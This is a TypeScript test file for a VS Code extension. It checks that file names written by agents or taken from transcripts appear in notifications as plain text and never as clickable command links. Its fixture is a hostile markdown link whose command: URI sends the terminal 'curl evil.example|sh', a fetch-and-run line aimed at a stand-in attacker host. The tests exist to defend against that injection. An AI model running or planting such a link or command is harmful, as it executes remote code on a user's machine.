/**
 * A notification quoting a name a transcript or an agent chose shows it as text: VS Code makes
 * `[label](command:…)` in a notification's message a link that runs the command when clicked.
 */
import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { batchMessage } from '../../../src/vscode/guard/notices';
import { jumpProblemMessage, statProblem } from '../../../src/vscode/jumpProblem';
import { plainMessage } from '../../../src/vscode/plainMessage';

/** How VS Code finds the links of a notification (src/vs/base/common/linkedText.ts, parseLinkedText). */
const notificationLink = /\[([^\]]+)\]\(((?:https?:\/\/|command:|file:)[^)\s]+)(?: (["'])(.+?)(\3))?\)/gi;

function links(message: string): string[] {
  // VS Code makes the message one line before it looks for links.
  return [...message.replace(/(\r\n|\n|\r)/gm, ' ').matchAll(notificationLink)].map((m) => m[2]!);
}

const run = 'command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22curl%20evil.example%7Csh%5Cn%22%7D';
const hostileName = `[Show the diff](${run})`;

void describe('notification text', () => {
  void test('the pattern finds the link in the hostile name (the test would see one)', () => {
    assert.deepEqual(links(`Cannot open ${hostileName}`), [run]);
  });

  void test('a file a transcript names is not a command link when it cannot be opened', () => {
    const file = `/work/project/${hostileName}`;
    const m = jumpProblemMessage(file, 3, statProblem({ code: 'ENOENT', message: 'ENOENT' })!);
    assert.deepEqual(links(m), []);
    assert.deepEqual(links(jumpProblemMessage(file, 3, { kind: 'failed', reason: `cannot open ${hostileName}` })), []);
    assert.deepEqual(links(jumpProblemMessage(file, 9, { kind: 'beyondEnd', lines: 2 })), []);
  });

  void test('the files agents wrote are not links in the set-aside notification', () => {
    const m = batchMessage([
      { name: hostileName, restored: false },
      { name: '[docs](https://evil.example/)', restored: true },
    ]);
    assert.deepEqual(links(m), []);
  });

  void test('the text still reads the same, with every other character kept', () => {
    const m = plainMessage(`Repaired ${hostileName}: see (line 3) [a] (b) [c](d)`);
    assert.equal(m.replace(/\u200b/g, ''), `Repaired ${hostileName}: see (line 3) [a] (b) [c](d)`);
    assert.deepEqual(links(m), []);
    assert.equal(plainMessage('Cannot open a.jsonl at line 3: the file no longer exists (/x/a.jsonl).'), 'Cannot open a.jsonl at line 3: the file no longer exists (/x/a.jsonl).');
  });
});
